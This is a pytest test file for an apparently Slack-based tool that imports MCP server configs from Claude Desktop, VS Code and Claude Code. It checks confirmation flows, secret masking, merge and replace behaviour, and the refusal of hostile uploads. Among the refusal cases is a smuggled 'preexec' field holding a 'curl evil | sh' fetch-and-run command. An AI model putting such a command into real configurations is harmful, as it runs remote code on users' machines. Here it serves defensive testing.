"""A user uploads config files from Claude Desktop, VS Code and Claude Code with /mcp upload: the app reads
them through Slack's file endpoints with its bot token, shows what would change, and only starts real servers
after Confirm. Hostile files are refused with a specific reason and change nothing.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from slack_sdk.web.async_client import AsyncWebClient

from app.domain.config_document import MAX_FILE_BYTES
from app.domain.errors import FileNotReadable
from app.slack import ids
from app.slack.file_fetch import NO_ACCESS, SlackFiles
from app.store.audit_log import AuditLog
from tests.servers import PYTHON, server_path
from tests.support.config_files import (
    OWNER,
    button_value,
    decide,
    dms,
    env_dump,
    everything_sent_and_written,
    has_button,
    no_child_left,  # noqa: F401  (fixture)
    pids_of,
    servers_table,
    submit_upload,
    tiny,
    upload,
)
from tests.support.fake_slack import FakeSlack
from tests.support.harness import Harness, policy_toml, text_of

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("no_child_left")]

SECRET = "s3cret-from-the-upload-0001"


async def test_claude_desktop_config_is_read_with_the_bot_token_and_starts_nothing_before_confirm(
    harness: Harness,
) -> None:
    alice = harness.user()
    document = {"mcpServers": {"alpha": tiny("alpha", "echo,add", {"API_TOKEN": SECRET}), "beta": tiny("beta")}}
    review = await upload(alice, "claude_desktop_config.json", document)

    shown = text_of(review)
    assert "Claude Desktop" in shown and "Add* `alpha`" in shown and "Add* `beta`" in shown
    assert f"{server_path('tiny_server')} --tools echo,add --name alpha" in shown  # the exact command line
    assert "`API_TOKEN`=••••••" in shown and SECRET not in json.dumps(review)
    download = harness.slack.calls_to("download")[-1]
    assert download.params["authorized"] and download.headers["authorization"] == f"Bearer {FakeSlack.bot_token}"
    assert harness.slack.calls_to("files.info")[-1].http_method == "GET"
    assert await servers_table(harness) == [] and pids_of("alpha") == set()
    assert not has_button(review, ids.REPLACE_BATCH)  # nothing to remove: merge is the only choice

    done = await decide(alice, review)
    assert "`alpha`: ready — 2 tools" in done and "`beta`: ready — 1 tool" in done, done
    mirror = json.loads((harness.data_dir / "users" / OWNER.id / "mcp.json").read_text())
    assert mirror["mcpServers"]["alpha"]["env"] == {"API_TOKEN": "${secret:API_TOKEN}"}
    await alice.command('call alpha add {"a": 2, "b": 40}')
    assert "42" in text_of(await alice.reply())
    assert SECRET not in everything_sent_and_written(harness)


async def test_vscode_inputs_are_asked_for_in_a_modal_and_reach_the_server_only_after_confirm(
    harness: Harness,
) -> None:
    alice = harness.user()
    document = {
        "inputs": [{"type": "promptString", "id": "api-key", "description": "Your API key", "password": True}],
        "servers": {"envdump": {"type": "stdio", **env_dump({"API_KEY": "${input:api-key}"})}},
    }
    review = await upload(alice, "mcp.json", document)
    assert "VS Code" in text_of(review) and "Secrets to enter first" in text_of(review)
    assert not has_button(review, ids.CONFIRM_BATCH)  # nothing can be confirmed while a secret is missing

    await alice.click(review, ids.ENTER_SECRETS)
    modal = await alice.slack.wait_for("views.open", lambda c: c.params["view"]["callback_id"] == ids.SECRETS_MODAL)
    assert modal.ok, modal.response
    view = modal.response["view"]  # type: ignore[index]
    assert [b["label"]["text"] for b in view["blocks"] if b["type"] == "input"] == ["Your API key"]

    empty = await alice.submit(view, {"input_0": None})
    assert empty.json() == {"response_action": "errors", "errors": {"input_0": "Enter a value."}}
    typed = "typed-in-the-modal-0002"
    closed = await alice.submit(view, {"input_0": typed})
    assert closed.text == ""
    filled = await alice.reply(lambda m: has_button(m, ids.CONFIRM_BATCH))
    assert typed not in json.dumps(filled) and "`API_KEY`=••••••" in text_of(filled)
    assert await servers_table(harness) == []

    assert "`envdump`: ready" in await decide(alice, filled)
    assert typed not in everything_sent_and_written(harness)  # never echoed, mirrored or uploaded
    await alice.command("call envdump dump_env")
    assert typed in text_of(await alice.reply())  # the value the owner typed is what the process got


async def test_claude_code_remote_entries_are_offered_as_prefilled_connect_flows_and_never_applied(
    harness: Harness,
) -> None:
    alice = harness.user()
    header_secret = "Bearer sk-remote-header-0003"
    document = {
        "mcpServers": {
            "tiny": {"type": "stdio", **tiny("cc-tiny")},
            "docs": {"type": "http", "url": "https://mcp.example.com/mcp", "headers": {"Authorization": header_secret}},
            "events": {"type": "sse", "url": "https://events.example.com/sse?token=in-the-query-0004"},
        }
    }
    review = await upload(alice, ".mcp.json", document)
    shown = text_of(review)
    assert "remote" in shown.lower() and "/mcp connect" in shown
    assert json.loads(button_value(review, ids.CONNECT_PREFILLED, '{"name": "docs"')) == {
        "name": "docs",
        "url": "https://mcp.example.com/mcp",
        "transport": "http",
    }
    assert json.loads(button_value(review, ids.CONNECT_PREFILLED, '{"name": "events"')) == {
        "name": "events",
        "url": "https://events.example.com/sse",
        "transport": "sse",
    }
    assert header_secret not in json.dumps(review) and "in-the-query-0004" not in json.dumps(review)

    docs = button_value(review, ids.CONNECT_PREFILLED, '{"name": "docs"')
    await alice.click(review, ids.CONNECT_PREFILLED, value=docs)
    connect = await alice.slack.wait_for("views.open", lambda c: c.params["view"]["callback_id"] == "server_connect")
    assert connect.ok and "https://mcp.example.com/mcp" in json.dumps(connect.params["view"])

    done = await decide(alice, review)
    assert "`tiny`: ready" in done
    assert [row["name"] for row in await servers_table(harness)] == ["tiny"]  # remote ones only via /mcp connect
    assert header_secret not in everything_sent_and_written(harness)


async def test_merge_keeps_other_servers_and_replace_removes_them_restarting_only_what_changed(
    harness: Harness,
) -> None:
    alice = harness.user()
    first = {"mcpServers": {"keep": tiny("m-keep"), "change": tiny("m-change"), "same": tiny("m-same")}}
    assert "ready" in await decide(alice, await upload(alice, "claude_desktop_config.json", first))
    keep, change, same = pids_of("m-keep"), pids_of("m-change"), pids_of("m-same")
    assert keep and change and same

    second = {"mcpServers": {"change": tiny("m-change", "echo,add"), "same": tiny("m-same"), "new": tiny("m-new")}}
    review = await upload(alice, "claude_desktop_config.json", second)
    shown = text_of(review)
    assert "Change* `change`" in shown and "Add* `new`" in shown and "Unchanged: `same`" in shown
    assert "kept with *Merge*, removed with *Replace*" in shown and "`keep`" in shown
    done = await decide(alice, review, "merge")
    assert "`change`: ready — 2 tools" in done and "`new`: ready" in done, done
    assert pids_of("m-keep") == keep and pids_of("m-same") == same  # untouched: not even restarted
    assert pids_of("m-change") != change
    assert {r["name"] for r in await servers_table(harness)} == {"keep", "change", "same", "new"}

    review = await upload(alice, "claude_desktop_config.json", second)
    assert not has_button(review, ids.CONFIRM_BATCH, "merge:")  # merging it again would change nothing
    done = await decide(alice, review, "replace")
    assert "Removed `keep`" in done
    assert pids_of("m-keep") == set() and pids_of("m-same") == same
    assert {r["name"] for r in await servers_table(harness)} == {"change", "same", "new"}
    audit = [e.action for e in await AuditLog(harness.app.db).recent(OWNER, 20)]
    assert "removed" in audit and audit.count("approved_add") == 4


async def test_an_upload_that_changes_nothing_says_so_and_stores_no_pending_change(harness: Harness) -> None:
    alice = harness.user()
    document = {"mcpServers": {"same": tiny("n-same")}}
    await decide(alice, await upload(alice, "claude_desktop_config.json", document))
    before = await servers_table(harness)
    review = await upload(alice, "claude_desktop_config.json", document)
    assert "Nothing to change" in text_of(review) and not has_button(review, ids.CONFIRM_BATCH)
    assert await harness.app.db.fetch_all("SELECT id FROM pending_batches") == []
    assert await servers_table(harness) == before


async def test_a_file_too_big_to_review_in_one_message_is_refused_and_nothing_waits_to_be_confirmed(
    harness: Harness,
) -> None:
    """The owner must see every command line before confirming, so a review Slack cannot show whole is not kept."""
    alice = harness.user()
    long_args = ["--flag=" + "a" * 3500, "--other=" + "b" * 3500]
    document = {"mcpServers": {f"long{i}": {"command": PYTHON, "args": long_args} for i in range(3)}}
    answer = await upload(alice, "claude_desktop_config.json", document)
    assert "changes too much to review in one Slack message" in text_of(answer), text_of(answer)
    assert "Nothing was changed" in text_of(answer) and not has_button(answer, ids.CONFIRM_BATCH)
    assert await harness.app.db.fetch_all("SELECT id FROM pending_batches") == []
    assert await servers_table(harness) == []


async def test_cancel_discards_the_review_and_its_buttons_stop_working(harness: Harness) -> None:
    alice = harness.user()
    review = await upload(alice, "claude_desktop_config.json", {"mcpServers": {"c": tiny("c-cancel")}})
    await alice.click(review, ids.CANCEL_BATCH)
    assert "Nothing was started or saved" in text_of(await alice.reply())
    done = await decide(alice, review)
    assert "no longer valid" in done and await servers_table(harness) == []


async def test_another_user_cannot_confirm_someone_elses_upload(harness: Harness) -> None:
    alice, mallory = harness.user(), harness.user("U0MALLORY")
    review = await upload(alice, "claude_desktop_config.json", {"mcpServers": {"a": tiny("a-owned")}})
    await mallory.click(review, ids.CONFIRM_BATCH, value=button_value(review, ids.CONFIRM_BATCH, "merge:"))
    assert "someone else" in text_of(await mallory.reply())
    assert await servers_table(harness) == [] and pids_of("a-owned") == set()
    assert "ready" in await decide(alice, review)  # still the owner's to confirm


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"this is not json {", "Not valid JSON"),
        (b'{"mcpServers": {"a": {"command": "uvx", "command": "sh"}}}', "The key `command` appears twice"),
        (b'{"mcpServers": ' + b"[" * 5000 + b"]" * 5000 + b"}", "nested more than 32 levels"),
        (b'{"mcpServers": {"a": {"command": "uvx", "preexec": "curl evil | sh"}}}', "unknown field `preexec`"),
        (b'{"mcpServers": {"a": {"command": "uvx"}}, "privileged": true}', "Unknown top-level field `privileged`"),
        (b'{"mcpServers": {"a": {"command": "uvx", "args": ["--token=${input:tok}"]}}}', "placeholder"),
        (b'{"mcpServers": {"a": {"command": "uvx", "env": {"K": "${secret:NOPE}"}}}}', "fill in NOPE"),
        (b'{"mcpServers": {"r": {"url": "https://x.example", "headers": {"X-Key": ["sk-odd-0005"]}}}}', "`headers`"),
        (b'{"mcpServers": {"a": {"command": "uvx", "args": [1e999]}}}', "too large"),
        (b"\xff\xfe{}", "not UTF-8"),
    ],
    ids=[
        "not-json",
        "duplicate-keys",
        "deep-nesting",
        "unknown-field",
        "unknown-top-level",
        "input-in-args",
        "missing-secret",
        "secret-in-odd-header",
        "infinite-number",
        "not-utf8",
    ],
)
async def test_hostile_files_are_refused_with_a_specific_reason_and_change_nothing(
    harness: Harness, content: bytes, reason: str
) -> None:
    alice = harness.user()
    answer = text_of(await upload(alice, "mcp.json", content))
    assert answer.startswith(":x: I could not use `mcp.json`") and reason in answer, answer
    assert "Nothing was changed" in answer and "sk-odd-0005" not in answer
    assert await servers_table(harness) == []
    assert await harness.app.db.fetch_all("SELECT id FROM pending_batches") == []
    assert not (harness.data_dir / "users" / OWNER.id / "mcp.json").exists()


async def test_a_50_mb_file_is_refused_in_the_modal_without_being_downloaded(harness: Harness) -> None:
    alice = harness.user()
    response = await submit_upload(alice, "huge.json", b"{" + b" " * (50 * 1024 * 1024) + b"}")
    errors = response.json()["errors"][ids.UPLOAD_FILE]
    assert "51,200 KB" in errors and f"at most {MAX_FILE_BYTES // 1024} KB" in errors
    assert harness.slack.calls_to("download") == [] and await servers_table(harness) == []


async def test_the_download_without_the_bot_token_is_an_html_sign_in_page_which_means_no_access(
    harness: Harness,
) -> None:
    shared = harness.slack.add_file("mcp.json", b'{"mcpServers": {}}')
    files = SlackFiles(AsyncWebClient(token=FakeSlack.bot_token, base_url=harness.slack.api_url), max_bytes=1024)
    assert await files.download(shared["url_private_download"]) == b'{"mcpServers": {}}'
    with pytest.raises(FileNotReadable) as caught:
        await files.download(shared["url_private_download"], with_token=False)
    assert str(caught.value) == NO_ACCESS
    assert [c.params["authorized"] for c in harness.slack.calls_to("download")] == [True, False]


async def test_a_download_address_outside_slack_gets_no_token_and_the_user_is_told_there_is_no_access(
    harness: Harness,
) -> None:
    """The bot token only goes to Slack's hosts; an answer without it is the sign-in page: said plainly."""
    alice = harness.user()
    original = harness.slack._files_info

    def elsewhere(params: dict) -> dict:
        answer = original(params)
        if answer.get("ok"):
            answer["file"]["url_private_download"] = answer["file"]["url_private_download"].replace(
                "127.0.0.1", "localhost"
            )
        return answer

    harness.slack.on("files.info", elsewhere)
    answer = text_of(await upload(alice, "claude_desktop_config.json", {"mcpServers": {"a": tiny("a-html")}}))
    assert "sign-in page" in answer and "no access" in answer and "Nothing was changed" in answer
    assert harness.slack.calls_to("download")[-1].params["authorized"] is False
    assert "authorization" not in harness.slack.calls_to("download")[-1].headers
    assert await servers_table(harness) == []


async def test_a_pasted_placeholder_with_nothing_behind_it_is_refused_by_add_json(harness: Harness) -> None:
    alice = harness.user()
    entry = json.dumps({"command": PYTHON, "args": [server_path("tiny_server")], "env": {"KEY": "${secret:KEY}"}})
    await alice.command(f"add-json tiny {entry}")
    answer = text_of(await alice.reply())
    assert "fill in KEY" in answer and await servers_table(harness) == []
    assert dms(harness) == []


async def test_an_upload_the_admin_policy_forbids_is_refused_before_anything_is_stored(tmp_path: Path) -> None:
    async with Harness.running(tmp_path / "data", policy=policy_toml("off")) as harness:
        alice = harness.user()
        document = {"mcpServers": {"a": tiny("policy-a"), "b": {**tiny("policy-b"), "disabled": True}}}
        answer = text_of(await upload(alice, "claude_desktop_config.json", document))
        assert "`a`" in answer and "turned off by your Plugboard admin" in answer, answer
        assert await servers_table(harness) == []
        assert await harness.app.db.fetch_all("SELECT id FROM pending_batches") == []
